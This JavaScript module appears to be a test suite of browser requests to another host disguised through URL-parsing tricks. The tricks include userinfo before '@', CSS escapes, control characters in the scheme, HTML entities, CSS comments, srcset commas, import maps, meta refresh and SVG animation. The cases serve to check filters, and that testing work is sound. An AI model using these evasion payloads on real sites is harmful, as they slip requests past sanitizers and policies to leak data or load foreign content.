// Addresses in a text of style or a list, where what looks like the end of one is none: the engine goes to another host than a hasty eye reads.
const SPELLED = {
  'a parenthesis before the host': ')',
  'an apostrophe before the host': "'",
  'a space before the host': ' ',
  'a comma before the host': ',',
  'a parenthesis, escaped, before the host': '\\29 ',
};
/** The own host as a name in front of the other one. */
const odd = (at, path, how) => '//' + location.host + how + '@' + at(path).slice(7);
const stand = (tag, more = {}, into = document.body) => { const e = document.createElement(tag); for (const name in more) e.setAttribute(name, more[name]); into.append(e); return e; };
const drawn = e => { e.append('x'); getComputedStyle(e).backgroundImage; return e; };
const sheet = text => { const s = document.createElement('style'); s.textContent = text; document.head.append(s); return s; };
const script = (type, text) => { const s = document.createElement('script'); s.type = type; s.textContent = text; document.head.append(s); };
const id = () => 'i' + Math.random().toString(36).slice(2);

const CARRIED = {
  'style.background': (at, how) => { drawn(stand('div')).style.background = 'url("' + odd(at, '/x.gif', how) + '")'; },
  'a sheet': (at, how) => { const name = id(); drawn(stand('div', { id: name })); sheet('#' + name + '{background:url("' + odd(at, '/x.gif', how) + '")}'); },
  'an @import': (at, how) => { sheet('@import "' + odd(at, '/x.css', how) + '";'); },
  'an image of a set': (at, how) => { new Image().srcset = odd(at, '/x.gif', how) + ' 1x'; },
  'a ping': (at, how) => { stand('a', { href: '#', ping: odd(at, '/x', how) }).click(); },
  'markup': (at, how) => { stand('div').innerHTML = '<img src="' + odd(at, '/x.gif', how) + '">'; },
  'markup of style': (at, how) => { stand('div').innerHTML = "<p style='background:url(\"" + odd(at, '/x.gif', how).replace("'", '&#39;') + "\")'>x</p>"; },
};
/** What is the end of an address there, or no escape. */
const ENDS = { 'an image of a set': [' ', '\\29 '], 'a ping': [' ', '\\29 '], 'markup': ['\\29 '] };
const attack = (carry, how) => `at => { const act = ${carry}; return act(at, ${JSON.stringify(how)}); }`;

export const helpers = { odd, stand, drawn, sheet, script, id };
export default [
  ...Object.entries(CARRIED).flatMap(([where, carry]) => Object.entries(SPELLED).filter(([, how]) => !ENDS[where]?.includes(how))
    .map(([what, how]) => [`O10 ${where}: ${what}`, attack(carry, how)])),
  // What is skipped as the data of an address, and is none.
  ['O10 a variable that is named as data are', at => { const name = id(); drawn(stand('div', { id: name })); sheet('#' + name + '{--data:url(' + at('/x.gif') + ');background:var(--data)}'); }],
  ['O10 a variable with base64 in its name', at => { const name = id(); drawn(stand('div', { id: name })); sheet('#' + name + '{--data:;--base64,:x;--data:url(' + at('/x.gif') + ');background:var(--data)}'); }],
  ['O10 an element that is named as data are', at => { drawn(stand('data')); sheet('data:first-of-type{display:block;background:url(' + at('/x.gif') + ')}'); }],
  ['O10 data in a comment', at => { drawn(stand('h6')); sheet('/*"data:*/h6{background:url(' + at('/x.gif') + ')}'); }],
  ['O10 data that end in a comment', at => { drawn(stand('h5')); sheet('/*"data:image/gif;base64,*/h5{background:url(' + at('/x.gif') + ')}'); }],
  ['O10 a comment between an address and its host', at => { drawn(stand('h4')); sheet('/*//' + location.host + '*/h4{background:url(' + at('/x.gif') + ')}'); }],
  ['O10 a name of the languages of XML before the host', at => { drawn(stand('h2')); sheet('h2{background:url("http://www.w3.org)@' + at('/x.gif').slice(7) + '")}'); }],
  // What an engine leaves out of an address.
  ...[['a tab in the scheme', 'ht', '\\9 ', 'tp://'], ['a line in the scheme', 'ht', '\\a ', 'tp://'], ['a tab between the slashes', '/', '\\9 ', '/'], ['a line between the slashes', '/', '\\00000d', '/'], ['a control before', '', '\\1 ', '//'], ['a space before', '', '\\20 ', '//']]
    .flatMap(([what, head, escape, tail]) => [
      [`O10 ${what}, escaped`, `at => { drawn(stand('div')).style.background = 'url("' + ${JSON.stringify(head + escape + tail)} + at('/x.gif').slice(7) + '")'; }`],
      [`O10 ${what}, in an image of a set in style`, `at => { drawn(stand('div')).style.background = 'image-set("' + ${JSON.stringify(head + escape + tail)} + at('/x.gif').slice(7) + '" 1x)'; }`],
    ]),
  ...[['a tab in the scheme', 'ht\ttp://'], ['a line in the scheme', 'ht\ntp://'], ['a line between the slashes', '/\n/'], ['a return between the slashes', '/\r/'], ['a tab between the slashes', '/\t/'], ['a control before', '\x01//']].flatMap(([what, head]) => [
    [`O15 a refresh with ${what}`, `at => { stand('meta', { 'http-equiv': 'refresh', content: '0;url=' + ${JSON.stringify(head)} + at('/x.html').slice(7) }, document.head); }`, { alone: true }],
    [`S10 an import map with ${what}`, `at => { const name = 'm' + Math.random(); script('importmap', JSON.stringify({ imports: { [name]: ${JSON.stringify(head)} + at('/x.js').slice(7) } })); script('module', 'import ' + JSON.stringify(name)); }`, { alone: true }],
    [`O9 markup of a picture with ${what}`, `at => { stand('div').innerHTML = '<img src="' + ${JSON.stringify(head)} + at('/x.gif').slice(7) + '">'; }`],
    ...head < ' ' ? [[`O9 markup of a picture with ${what}, without quotes`, `at => { stand('div').innerHTML = '<img src=' + ${JSON.stringify(head)} + at('/x.gif').slice(7) + '>'; }`]] : [],
    [`O9 markup of style with ${what}`, `at => { stand('div').innerHTML = '<p style="background:url(\\'' + ${JSON.stringify(head)} + at('/x.gif').slice(7) + '\\')">x</p>'; }`],
    [`O9 an animated picture with ${what}`, `at => { const v = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); document.body.append(v); v.innerHTML = '<image width="9" height="9"></image>'; const a = document.createElementNS(v.namespaceURI, 'animate'); a.setAttribute('attributeName', 'href'); a.setAttribute('values', 'a;' + ${JSON.stringify(head)} + at('/x.gif').slice(7)); a.setAttribute('dur', '.02s'); a.setAttribute('fill', 'freeze'); v.firstChild.append(a); }`],
  ]),
  ['O9 markup of a picture whose address ends with the tag', at => { stand('div').innerHTML = '<img src=' + at('/').replace(/\/\?.*/, '') + '>'; stand('div').innerHTML = '<img alt="" src=' + at('/x.gif') + '><br>'; }],
  ['O9 markup of a picture whose host ends with a quote', at => { stand('div').innerHTML = '<img src=//' + location.host + "'@" + at('/x.gif').slice(7) + '>'; }],
  ['O9 markup of a picture whose scheme is an entity', at => { stand('div').innerHTML = '<img src="http&colon;//' + at('/x.gif').slice(7) + '">'; }],
  ['O9 markup of a picture whose slashes are entities', at => { stand('div').innerHTML = '<img src="&sol;&#x2f;' + at('/x.gif').slice(7) + '">'; }],
  ['O9 markup of a picture with an entity of a line', at => { stand('div').innerHTML = '<img src="/&NewLine;/' + at('/x.gif').slice(7) + '">'; }],
  ['O9 markup of a picture with a backslash', at => { stand('div').innerHTML = '<img src="\\' + '\\' + at('/x.gif').slice(7) + '">'; }],
  ['O9 markup of a picture in an entry that a comma ends', at => { stand('div').innerHTML = '<img srcset="/own.gif 1x,//' + at('/x.gif').slice(7) + ' 2x">'; const i = new Image(); i.sizes = '1px'; i.srcset = '/own.gif 1x,//' + at('/x.gif').slice(7) + ' 9x'; i.srcset = ',,//' + at('/x.gif').slice(7); }],
  ['O9 markup of style behind a comment', at => { stand('div').innerHTML = '<p style="/*//' + location.host + '/x*/background:url(//' + at('/x.gif').slice(7) + ')">x</p>'; }],
  ['O10 a path that ends in a comment', at => { drawn(stand('h1')); sheet('/*//' + location.host + '/x*/h1{background:url(//' + at('/x.gif').slice(7) + ')}'); }],
  ['O10 an import behind the path of another', at => { sheet('/*//' + location.host + '/x*/@import"//' + at('/x.css').slice(7) + '";'); }],
  ['O9 an entry of values behind another', at => { const v = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); document.body.append(v); v.innerHTML = '<image width="9" height="9"></image>'; const a = document.createElementNS(v.namespaceURI, 'animate'); a.setAttribute('attributeName', 'href'); a.setAttribute('values', '//' + location.host + '/own.gif;//' + at('/x.gif').slice(7)); a.setAttribute('dur', '.02s'); a.setAttribute('fill', 'freeze'); v.firstChild.append(a); }],
];
